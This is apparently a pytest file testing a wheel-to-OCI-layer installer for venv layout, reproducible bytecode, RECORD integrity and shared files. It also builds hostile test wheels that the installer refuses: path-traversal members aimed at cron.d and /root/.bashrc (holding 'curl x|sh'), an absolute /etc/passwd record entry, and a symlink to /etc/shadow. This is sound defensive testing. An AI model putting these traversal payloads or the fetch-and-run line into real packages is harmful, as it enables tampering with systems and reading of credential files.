"""Wheels installed with installer into a layer tree: scheme, scripts, bytecode, hostile wheels.

The wheels are built here, byte by byte, with zipfile: a well-formed one, and ones that try to
write outside the install root.
"""

from __future__ import annotations

import base64
import hashlib
import stat
import zipfile
from collections.abc import Iterator
from contextlib import ExitStack
from pathlib import Path

import pytest
from packaging.version import Version

from imagekit.build.oci.pyc import compiles_bytecode
from imagekit.build.oci.wheels import UnsafeWheelError, check_wheel, layer_tree
from imagekit.image.errors import OciError
from imagekit.image.model import Compression
from imagekit.image.tarlayer import Tree, write_layer

SITE = "opt/venv/lib/python3.11/site-packages"
PYTHON = Version("3.11.2")
WHEEL = "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n"


@pytest.fixture
def stack() -> Iterator[ExitStack]:
    """Keeps the wheels a layer tree reads open for the test."""
    with ExitStack() as resources:
        yield resources


def _record_line(name: str, data: bytes) -> str:
    digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).decode().rstrip("=")
    return f"{name},sha256={digest},{len(data)}"


def build_wheel(
    folder: Path,
    files: dict[str, bytes],
    *,
    name: str = "demo",
    extra_record: tuple[str, ...] = (),
    skip_record: frozenset[str] = frozenset(),
    symlinks: dict[str, str] | None = None,
) -> Path:
    """A wheel `name`-1.0 holding `files` (archive path -> bytes) and a console script."""
    info = f"{name}-1.0.dist-info"
    files = {
        **files,
        f"{info}/METADATA": f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n".encode(),
        f"{info}/WHEEL": WHEEL.encode(),
        f"{info}/entry_points.txt": f"[console_scripts]\n{name} = {name}:main\n".encode(),
    }
    record = [_record_line(n, d) for n, d in files.items() if n not in skip_record]
    record += [*extra_record, f"{info}/RECORD,,"]
    path = folder / f"{name}-1.0-py3-none-any.whl"
    with zipfile.ZipFile(path, "w") as archive:
        for member, data in files.items():
            archive.writestr(member, data)
        for member, target in (symlinks or {}).items():
            link = zipfile.ZipInfo(member)
            link.external_attr = (stat.S_IFLNK | 0o777) << 16
            archive.writestr(link, target)
        archive.writestr(f"{info}/RECORD", "\n".join(record) + "\n")
    return path


def _text(tree: Tree, path: str) -> bytes:
    entry = tree.entries[path]
    assert entry.opener is not None
    with entry.opener() as f:
        return f.read()


def test_a_wheel_lands_in_the_venv(tmp_path: Path, stack: ExitStack) -> None:
    wheel = build_wheel(tmp_path, {"demo/__init__.py": b"def main():\n    return 0\n"})
    tree = layer_tree(
        [wheel], stack, venv="/opt/venv", python=PYTHON, bytecode=True, mtime=315532800
    )
    assert _text(tree, f"{SITE}/demo/__init__.py").startswith(b"def main")
    script = tree.entries["opt/venv/bin/demo"]
    assert script.mode == 0o755
    assert _text(tree, "opt/venv/bin/demo").startswith(b"#!/opt/venv/bin/python\n")
    assert _text(tree, f"{SITE}/demo-1.0.dist-info/INSTALLER") == b"imagekit\n"
    assert _text(tree, f"{SITE}/demo-1.0.dist-info/REQUESTED") == b""
    record = _text(tree, f"{SITE}/demo-1.0.dist-info/RECORD").decode()
    assert "../../../bin/demo,sha256=" in record
    pyc = f"{SITE}/demo/__pycache__/__init__.cpython-311.pyc"
    if compiles_bytecode(PYTHON):
        flags = int.from_bytes(_text(tree, pyc)[4:8], "little")
        assert flags == 0b11  # hash-based and checked: no timestamp in the file
    else:
        assert pyc not in tree.entries


def test_no_bytecode_when_asked(tmp_path: Path, stack: ExitStack) -> None:
    wheel = build_wheel(tmp_path, {"demo/__init__.py": b"x = 1\n"})
    tree = layer_tree([wheel], stack, venv="/opt/venv", python=PYTHON, bytecode=False, mtime=0)
    assert not [p for p in tree.entries if p.endswith(".pyc")]


def test_bytecode_is_the_same_every_time(tmp_path: Path, stack: ExitStack) -> None:
    wheel = build_wheel(tmp_path, {"demo/__init__.py": b"S = {'b', 'a', 'c'}\nT = ('x', 1)\n"})
    if not compiles_bytecode(PYTHON):
        pytest.skip("this interpreter is not CPython 3.11: it writes no .pyc for the image")
    pyc = f"{SITE}/demo/__pycache__/__init__.cpython-311.pyc"
    first, second = (
        _text(
            layer_tree([wheel], stack, venv="/opt/venv", python=PYTHON, bytecode=True, mtime=0),
            pyc,
        )
        for w in ("a", "b")
    )
    assert first == second


def test_a_path_climbing_out_is_refused(tmp_path: Path, stack: ExitStack) -> None:
    wheel = build_wheel(tmp_path, {"demo/__init__.py": b"", "../../etc/cron.d/evil": b"* * *"})
    with pytest.raises(
        UnsafeWheelError,
        match=r"demo-1\.0-py3-none-any\.whl: '\.\./\.\./etc/cron\.d/evil' climbs out of the "
        r"install root; the wheel is refused",
    ):
        layer_tree([wheel], stack, venv="/opt/venv", python=PYTHON, bytecode=False, mtime=0)


def test_a_data_path_climbing_out_is_refused(tmp_path: Path) -> None:
    wheel = build_wheel(tmp_path, {"demo-1.0.data/data/../../../../root/.bashrc": b"curl x|sh"})
    with pytest.raises(UnsafeWheelError, match=r"climbs out of the install root"):
        check_wheel(wheel)


def test_an_absolute_record_path_is_refused(tmp_path: Path) -> None:
    wheel = build_wheel(tmp_path, {"demo/__init__.py": b""}, extra_record=("/etc/passwd,,",))
    with pytest.raises(
        UnsafeWheelError, match=r"demo-1\.0-py3-none-any\.whl: '/etc/passwd' is an absolute path"
    ):
        check_wheel(wheel)


def test_a_symlink_escaping_the_root_is_refused(tmp_path: Path) -> None:
    wheel = build_wheel(
        tmp_path,
        {"demo/__init__.py": b""},
        symlinks={"demo/shadow": "../../../../../../etc/shadow"},
    )
    with pytest.raises(
        UnsafeWheelError,
        match=r"'demo/shadow' is a symlink to '\.\./\.\./\.\./\.\./\.\./\.\./etc/shadow', "
        r"outside the root",
    ):
        check_wheel(wheel)


def test_a_symlink_inside_the_root_is_allowed(tmp_path: Path) -> None:
    wheel = build_wheel(tmp_path, {"demo/a.py": b""}, symlinks={"demo/b.py": "a.py"})
    check_wheel(wheel)


def test_two_wheels_writing_one_file(tmp_path: Path, stack: ExitStack) -> None:
    one = build_wheel(tmp_path, {"shared/__init__.py": b"1"}, name="one")
    two = build_wheel(tmp_path, {"shared/__init__.py": b"2"}, name="two")
    with pytest.raises(
        OciError,
        match=r"two-1\.0-py3-none-any\.whl: installing it failed .*"
        r"two wheels install /opt/venv/lib/python3\.11/site-packages/shared/__init__\.py "
        r"with different contents",
    ):
        layer_tree([one, two], stack, venv="/opt/venv", python=PYTHON, bytecode=False, mtime=0)


def test_a_member_is_read_from_the_wheel_when_the_layer_is_written(
    tmp_path: Path, stack: ExitStack
) -> None:
    # The entry holds no bytes: it reopens the member, so a wheel swapped after the install
    # pass shows through, and the tree of a multi-GB layer costs no memory per file.
    wheel = build_wheel(tmp_path, {"demo/big.bin": b"A" * 4096})
    tree = layer_tree([wheel], stack, venv="/opt/venv", python=PYTHON, bytecode=False, mtime=0)
    assert _text(tree, f"{SITE}/demo/big.bin") == b"A" * 4096
    record = _text(tree, f"{SITE}/demo-1.0.dist-info/RECORD").decode()
    assert _record_line("demo/big.bin", b"A" * 4096) in record


def test_a_member_that_does_not_match_its_record_fails_the_layer(
    tmp_path: Path, stack: ExitStack
) -> None:
    good = _record_line("demo/big.bin", b"A" * 4096)
    wheel = build_wheel(
        tmp_path,
        {"demo/big.bin": b"B" * 4096},
        extra_record=(good,),
        skip_record=frozenset({"demo/big.bin"}),
    )
    tree = layer_tree([wheel], stack, venv="/opt/venv", python=PYTHON, bytecode=False, mtime=0)
    with pytest.raises(
        OciError,
        match=r"^demo-1\.0-py3-none-any\.whl: demo/big\.bin: the content does not match the "
        r"wheel's RECORD \(sha256=.*\); the wheel is corrupt: delete it from the wheel cache",
    ):
        write_layer(tree, tmp_path / "blobs", mtime=0, compression=Compression.GZIP)
    assert [p.name for p in (tmp_path / "blobs").iterdir() if not p.name.startswith(".")] == []


def test_two_wheels_writing_one_identical_file(tmp_path: Path, stack: ExitStack) -> None:
    # As NVIDIA's CUDA 12 wheels all ship an empty nvidia/__init__.py: installed once, as pip does.
    one = build_wheel(tmp_path, {"nvidia/__init__.py": b"", "nvidia/one.py": b"1"}, name="one")
    two = build_wheel(tmp_path, {"nvidia/__init__.py": b"", "nvidia/two.py": b"2"}, name="two")
    tree = layer_tree([one, two], stack, venv="/opt/venv", python=PYTHON, bytecode=False, mtime=0)
    site = "opt/venv/lib/python3.11/site-packages/nvidia"
    assert _text(tree, f"{site}/__init__.py") == b""
    assert (_text(tree, f"{site}/one.py"), _text(tree, f"{site}/two.py")) == (b"1", b"2")
